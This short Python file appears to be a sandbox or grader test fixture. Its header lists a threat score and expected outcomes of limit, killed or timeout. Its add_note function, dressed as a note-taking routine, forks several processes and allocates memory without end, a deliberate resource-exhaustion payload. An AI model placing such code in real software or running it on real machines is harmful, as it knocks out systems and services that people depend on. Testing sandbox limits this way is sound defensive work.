# threat: 13
# earns: 0
# ends: limit|killed|timeout assertion limit|killed|timeout
import os


def add_note(session, body):
    hoard = []
    for _ in range(6):
        if os.fork() == 0:
            break
    while True:
        hoard.append(bytearray(b"x" * 10_000_000))


def find_notes(session, word):
    return []
